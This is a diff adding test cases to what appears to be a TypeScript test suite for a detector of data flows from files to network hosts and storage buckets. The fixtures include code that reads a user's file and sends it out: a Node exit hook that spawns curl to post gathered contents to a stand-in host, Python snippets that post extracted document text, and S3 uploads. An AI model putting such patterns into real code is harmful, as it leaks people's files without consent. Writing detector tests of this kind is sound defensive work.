@@ -159,6 +159,45 @@ describe('what is sent, where in the request, to whom', () => {
   });
 });
 
+describe('buckets', () => {
+  const put = (bucket: string, head = '') =>
+    py(
+      `import boto3, os, sys\n${head}\nboto3.client('s3').put_object(Bucket=${bucket}, Key='k', Body=open(sys.argv[1]).read())`,
+    );
+  it('lead where they are written in to lead', () => {
+    expect(flow(put("'notes-in-eu'"), { to: 'cloud-storage', host: 'notes-in-eu' })).toBeDefined();
+  });
+  it('are the person’s where the person names them', () => {
+    expect(flow(put("os.environ['BUCKET']"), { to: 'cloud-storage', host: '' })).toBeDefined();
+    expect(flow(put('sys.argv[2]'), { to: 'cloud-storage', host: 'notes-in-eu' })).toBeUndefined();
+  });
+});
+
+describe('what is done when Node ends', () => {
+  it('is done with all that was gathered by then', () => {
+    const code =
+      "const fs = require('fs'), { spawnSync } = require('child_process');\nconst seen = [];\nprocess.on('exit', () => spawnSync('curl', ['-d', seen.join(''), 'https://h.test/x']));\nseen.push(fs.readFileSync(process.argv[2], 'utf8'));\n";
+    expect(flow(run({ 'a.js': code }), { from: ['file'], position: 'body', host: 'h.test' })).toBeDefined();
+  });
+});
+
+describe('what a document says', () => {
+  it.each([
+    "import subprocess\nt = subprocess.run(['pdftotext', '-layout', name, '-'], capture_output=True).stdout",
+    'from pdfminer.high_level import extract_text\nt = extract_text(name)',
+    'from markitdown import MarkItDown\nt = MarkItDown().convert(name).text_content',
+    "import whisper\nt = whisper.load_model('base').transcribe(name)['text']",
+    'import xml.etree.ElementTree as ET\nt = [e.text for e in ET.parse(name).getroot()]',
+  ])('%s', (code) => {
+    const result = py(`import sys, requests\nname = sys.argv[1]\n${code}\nrequests.post('https://h.test', json=t)`);
+    expect(flow(result, { from: ['file'], position: 'body', host: 'h.test' })).toBeDefined();
+  });
+  it('is not what only names such a program says', () => {
+    const result = py("import sys, requests\nrequests.post('https://h.test', json={'name': 'pdftotext'})");
+    expect(flow(result, { from: ['file'], position: 'body' })).toBeUndefined();
+  });
+});
+
 describe('the way', () => {
   it('through helpers, classes, containers and callbacks', () => {
     for (const code of [
